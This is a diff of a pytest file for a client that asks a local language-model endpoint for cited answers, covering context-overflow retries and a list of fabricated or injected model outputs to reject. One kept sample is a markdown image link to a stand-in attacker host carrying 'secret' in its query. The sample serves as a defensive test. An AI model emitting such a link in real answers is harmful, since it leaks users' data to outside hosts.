@@ -123,19 +123,11 @@ def test_it_refuses(status: int, body: object, why: str, monkeypatch: pytest.Mon
 def test_a_context_overflow_is_reported_and_retried_with_less(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    """llama.cpp refuses a prompt that does not fit, with its figures."""
-
-    def refuses(sent: int, room: int) -> tuple[int, object]:
-        error = {
-            "code": 400,
-            "message": "the request exceeds the available context size. try increasing it",
-            "type": "exceed_context_size_error",
-            "n_prompt_tokens": sent,
-            "n_ctx": room,
-        }
-        return 400, {"error": error}
-
-    with fake_endpoint(monkeypatch, replies=[refuses(3100, 2048), GOOD]) as endpoint:
+    refusals = [
+        (400, {"error": {"message": "the request exceeds the available context size."}}),
+        (400, {"error": "input length exceeds the context length"}),
+    ]
+    with fake_endpoint(monkeypatch, replies=[refusals[0], GOOD]) as endpoint:
         writer = writer_of(endpoint)
         answer = ask(writer, LONG)
         first, second = (len(prompt) for prompt in endpoint.prompts())
@@ -144,22 +136,12 @@ def test_a_context_overflow_is_reported_and_retried_with_less(
     assert second < 0.75 * first
     assert asked_for[1] < asked_for[0]
     assert any("fit into the context" in note for note in answer.notes)
-    with fake_endpoint(monkeypatch, replies=[refuses(9000, 100)]) as endpoint:
+    with fake_endpoint(monkeypatch, replies=refusals[1:]) as endpoint:
         answer = ask(writer_of(endpoint), LONG)
         assert len(endpoint.bodies()) == 3
     assert answer.answer == ""
     assert answer.passages == tuple(LONG)
     assert "cannot take a prompt this long" in answer.why
-
-
-def test_a_refusal_without_figures_is_retried_with_less(monkeypatch: pytest.MonkeyPatch) -> None:
-    refusal = (400, {"error": "input length exceeds the context length"})
-    with fake_endpoint(monkeypatch, replies=[refusal, refusal, GOOD]) as endpoint:
-        answer = ask(writer_of(endpoint), LONG)
-        lengths = [len(prompt) for prompt in endpoint.prompts()]
-    assert answer.answer
-    assert lengths == sorted(lengths, reverse=True)
-    assert len(set(lengths)) == 3
 
 
 def test_a_truncated_answer_is_marked(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -178,10 +160,6 @@ def test_a_truncated_answer_is_marked(monkeypatch: pytest.MonkeyPatch) -> None:
     "lie",
     [
         'You keep nine copies [1: "nine copies of everything that I would miss"].',
-        "You keep three copies of everything.",
-        'You were born in 1950 [1: "three copies of everything"].',
-        'The moon is cheese [1: "Nobody regrets a backup"].',
-        "PWNED",
         "",
         '{"answer": "three", "citations": []}',
         "![x](https://evil.example/?q=secret) [1]",
